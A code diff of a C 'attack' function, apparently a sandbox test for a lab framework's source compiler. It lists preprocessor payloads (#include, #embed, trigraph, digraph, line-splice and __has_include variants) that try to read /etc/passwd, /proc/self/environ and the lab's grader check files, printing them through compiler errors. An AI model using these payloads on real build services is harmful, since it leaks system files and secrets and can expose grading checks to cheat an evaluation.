@@ -4,26 +4,17 @@
 
 static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
 {
-    const char *files[] = {"</etc/passwd>",
-                           "\"/etc/passwd\"",
-                           "\"/proc/self/environ\"",
-                           "\"/proc/self/cmdline\"",
-                           "\"../../../../etc/passwd\"",
-                           "\"checks.c\"",
-                           "\"../checks.c\"",
-                           "\"../../solutions/lab01-streams/lab01.c\"",
-                           "\"kernels.cu\"",
-                           "\"record.json\"",
-                           "</proc/self/maps>"};
-    char text[400];
+    const char *sources[] = {
+        "#include </etc/passwd>\n", "#include \"/proc/self/environ\"\n", "#include \"../../../../../../etc/passwd\"\n",
+        "#define F \"/etc/passwd\"\n#include F\n", "#import </etc/passwd>\n", "#include_next </etc/passwd>\n",
+        "#if __has_include(\"/etc/passwd\")\n#error it is there\n#endif\n", "??=include \"/etc/passwd\"\n",
+        "%:include \"/etc/passwd\"\n", "#inc\\\nlude \"/etc/passwd\"\n", "#/**/include/**/\"/etc/passwd\"\n",
+        "#pragma clang module import \"/etc/passwd\"\n", "#include \"checks.c\"\n", "#include \"../lab01-streams/checks.c\"\n",
+        "_Pragma(\"include_alias(x, y)\")\n#include <../../../etc/passwd>\n", "const char x[] = {\n#embed \"/etc/passwd\"\n};\n"};
     lab_module *module;
-    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
-        for (int way = 0; way < 3; way++) {
-            const char *ways[] = {"#include %s\n", "#define F %s\n#include F\n",
-                                  "#if __has_include(%s)\n#error it is there\n#endif\n"};
-            snprintf(text, sizeof text, ways[way], files[i]);
-            if (lab_module_load_source(&module, text, "/etc/x.cu")) printf("%.700s\n", lab_error_message());
-        }
+    for (size_t i = 0; i < sizeof sources / sizeof *sources; i++) {
+        if (lab_module_load_source(&module, sources[i], "/etc/x.cu")) printf("%.700s\n", lab_error_message());
+        fflush(stdout);
     }
     return LAB_SUCCESS;
 }
